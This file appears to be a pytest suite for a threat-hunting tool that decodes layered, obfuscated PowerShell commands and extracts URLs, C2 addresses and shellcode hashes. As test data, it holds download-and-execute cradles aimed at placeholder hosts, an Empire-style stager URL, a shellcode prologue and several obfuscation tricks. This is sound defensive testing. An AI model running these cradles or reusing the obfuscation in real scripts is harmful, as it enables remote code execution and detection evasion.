import base64
import gzip
import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.hunting.decode import Decoded, decode, decode_all
from tests.encoding import b64, deflated, gzipped, zlibbed

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"


def chain(decoded: Decoded) -> str:
    return ">".join(decoded.chain)


@pytest.mark.parametrize(
    "line", ["", " ", "notepad.exe", "powershell -File x.ps1", "powershell -c Get-Date", "42"]
)
def test_nothing_encoded(line: str) -> None:
    decoded = decode(line)
    assert (decoded.status, decoded.validated, decoded.final, decoded.chain) == ("none", "", "", ())


def test_iocs_of_a_line_with_nothing_encoded() -> None:
    decoded = decode(f'powershell -c "{CRADLE}"')
    assert (decoded.status, list(decoded.iocs["url"])) == ("none", ["http://example.com/a.ps1"])
    assert decoded.c2 == ("http://example.com/a.ps1",)


@pytest.mark.parametrize("charset", ["utf-16-le", "utf-16-be", "ascii"])
def test_encoded_command(charset: str) -> None:
    decoded = decode(f"powershell -nop -enc {b64(CRADLE, charset)}")
    assert (decoded.status, decoded.error) == ("decoded", "")
    assert (decoded.validated, decoded.final) == (CRADLE, "")
    assert chain(decoded) == f"base64:{charset}"
    assert list(decoded.iocs["url"]) == ["http://example.com/a.ps1"]


@pytest.mark.parametrize(
    ("inner", "step"),
    [
        (f"powershell -enc {b64(CRADLE)}", "base64:utf-16-le"),
        (f"iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{b64(CRADLE, 'ascii')}')))", "base64:ascii"),
        (f"New-Object IO.Compression.GzipStream([Convert]::FromBase64String('{gzipped(CRADLE)}'))", "gzip"),
        (f"IO.Compression.DeflateStream([Convert]::FromBase64String('{deflated(CRADLE)}'))", "deflate"),
        (f"$x = '{zlibbed(CRADLE)}'", "zlib"),
    ],
)  # fmt: skip
def test_layer_within_a_layer(inner: str, step: str) -> None:
    decoded = decode(f"powershell -e {b64(inner)}")
    assert decoded.status == "decoded"
    assert decoded.validated == inner
    assert [layer.step for layer in decoded.layers[:2]] == ["base64:utf-16-le", step]
    assert CRADLE in decoded.final
    assert "http://example.com/a.ps1" in decoded.iocs["url"]


def test_layers_to_any_depth_within_bounds() -> None:
    script = CRADLE
    for _ in range(10):
        script = f"powershell -enc {b64(script)}"
    decoded = decode(script)
    assert chain(decoded) == ">".join(["base64:utf-16-le"] * 10)
    assert decoded.final == CRADLE


def test_layers_beyond_the_bounds_are_said_to_be_so() -> None:
    script = CRADLE
    for _ in range(18):
        script = f"powershell -enc {b64(script, 'ascii')}"
    decoded = decode(script, hidden=False)
    assert decoded.status == "partial"
    assert "more layers than are followed" in decoded.error
    assert len(decoded.chain) == 16


def test_cut_off_base64_is_partial() -> None:
    decoded = decode(f"powershell -enc {b64(CRADLE)[:121]}")
    assert decoded.status == "partial"
    assert CRADLE.startswith(decoded.validated)
    assert len(decoded.validated) == 45
    assert "cut off" in decoded.error


def test_what_cannot_be_decoded_is_an_error() -> None:
    decoded = decode("powershell -enc !!!!")
    assert (decoded.status, decoded.validated) == ("error", "")
    assert "base64 ends at character 0" in decoded.error


def test_binary_payload_is_shown_as_far_as_it_can_be() -> None:
    data = base64.b64encode(bytes(range(1, 256))).decode()
    decoded = decode(f"powershell -enc {data}", hidden=False)
    assert (decoded.status, chain(decoded)) == ("partial", "base64:binary")
    assert "binary" in decoded.error
    assert decoded.validated


def test_decompression_bomb_stops_at_its_limit() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * 100_000_000)).decode()
    decoded = decode(f"[Convert]::FromBase64String('{bomb}')", hidden=False)
    assert (decoded.status, chain(decoded)) == ("partial", "gzip")
    assert "stopped at its limit" in decoded.error
    assert len(decoded.final or decoded.validated) <= 32 << 20


def test_two_commands_in_a_line() -> None:
    decoded = decode(f"powershell -e {b64('Get-Date')} & powershell -e {b64('Get-Host')}")
    assert decoded.validated == "Get-Date\nGet-Host"


def test_concatenated_constants_give_the_url() -> None:
    script = (
        "$sEr='https://192.0.2.4:443';$T='/admin/get.php';$wC.HeAdErS.Add('Cookie','x=');"
        "$dATa=$WC.DOwNLoAdDaTa($seR+$t)"
    )
    decoded = decode(f"powershell -enc {b64(script)}")
    assert "https://192.0.2.4:443/admin/get.php" in decoded.iocs["url"]
    assert decoded.c2 == ("https://192.0.2.4:443/admin/get.php",)


@pytest.mark.parametrize("hidden", [True, False])
@pytest.mark.parametrize("line", ["{}", 'powershell -c "{}"'])
def test_constants_of_a_plain_script_give_the_url(line: str, hidden: bool) -> None:
    script = "$ser='https://192.0.2.4:443';$t='/a.php'; $ser+$t"
    decoded = decode(line.format(script), hidden)
    assert list(decoded.iocs["url"]) == ["https://192.0.2.4:443/a.php"]


@pytest.mark.parametrize("inner", [gzip.compress(bytes(range(256))), b"\x1f\x8b\x08 not gzip"])
def test_compressed_content_that_cannot_be_read_is_partial(inner: bytes) -> None:
    blob = base64.b64encode(inner * 3).decode()
    decoded = decode("powershell -enc " + b64(f"$x=[Convert]::FromBase64String('{blob}')"), False)
    assert decoded.status == "partial"
    assert "gzip" in decoded.error


def test_the_encoded_text_itself_is_not_searched_for_iocs() -> None:
    decoded = decode("powershell -enc " + b64("Get-Date; # aaaa"))
    assert not any(decoded.iocs.values())


def test_unknown_shellcode_is_said_to_be_so_with_its_hash() -> None:
    code = [0xFC, 0xE8, 0x82, 0, 0, 0, 0x60, 0x89, 0xE5, 0x31, 0xC0, 0x64, 0x8B, 0x50, 0x30, 0x8B]
    script = f"[Byte[]]$z = {','.join(hex(byte) for byte in code * 3)};$g = 0x1000"
    decoded = decode(f"powershell -enc {b64(script)}")
    assert chain(decoded) == "base64:utf-16-le>shellcode:metasploit/unknown"
    assert decoded.final == ""
    assert list(decoded.iocs["sha256"]) == [hashlib.sha256(bytes(code * 3)).hexdigest()]


@settings(max_examples=200, deadline=None)
@given(st.text(), st.binary(max_size=300))
def test_any_text_and_payload_is_decoded_without_an_error(text: str, data: bytes) -> None:
    payload = base64.b64encode(data).decode()
    for line in (
        text,
        f"powershell -enc {payload} {text}",
        f"FromBase64String('{payload}') {text}",
    ):
        decoded = decode(line)
        assert decoded.status in ("none", "decoded", "partial", "error")


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(["utf16", "ascii", "gzip", "deflate"]), max_size=5))
def test_any_nesting_comes_back(steps: list[str]) -> None:
    wrap = {
        "utf16": lambda script: f"powershell.exe -EncodedCommand {b64(script)}",
        "ascii": lambda script: f"iex $d.GetString([Convert]::FromBase64String('{b64(script, 'ascii')}'))",
        "gzip": lambda script: f"$s = [Convert]::FromBase64String('{gzipped(script)}')",
        "deflate": lambda script: f"DeflateStream [Convert]::FromBase64String(\"{deflated(script)}\")",
    }  # fmt: skip
    script = CRADLE
    for step in steps:
        script = wrap[step](script)
    assert "http://example.com/a.ps1" in decode(script, hidden=False).iocs["url"]


@pytest.mark.parametrize("change", [("t", "2s8U"), ("A", "@!")])
def test_encoded_command_within_a_string_that_is_changed_first_is_read_afterwards(
    change: tuple[str, str],
) -> None:
    letter, marker = change
    encoded = base64.b64encode("iwr 'http://example.com/a.ps1'".encode("utf-16-le")).decode()
    hidden = f"powershell -nop -e {encoded}".replace(letter, marker)
    script = f"$x = ('{hidden}' -creplace '{marker}','{letter}'); iex $x"
    assert list(decode(script).iocs["url"]) == ["http://example.com/a.ps1"]


def test_encoded_command_torn_over_variables_is_read_whole() -> None:
    encoded = base64.b64encode("iwr 'http://example.com/a.ps1'".encode("utf-16-le")).decode()
    script = f"$a='powershell -e {encoded[:32]}';$b='{encoded[32:]}';iex ($a+$b)"
    assert list(decode(script).iocs["url"]) == ["http://example.com/a.ps1"]


def test_many_command_lines_are_decoded_like_each_by_itself() -> None:
    scripts = [f"$n = {n}; {CRADLE}" for n in range(70)]
    lines = [f"powershell -enc {b64(script)}" for script in scripts]
    bomb = base64.b64encode(gzip.compress(b"a" * (2 << 20))).decode()
    lines[7] = f"[Convert]::FromBase64String('{bomb}')"
    lines[9] = "powershell -enc !!!!"
    assert list(decode_all(lines)) == [decode(line) for line in lines]
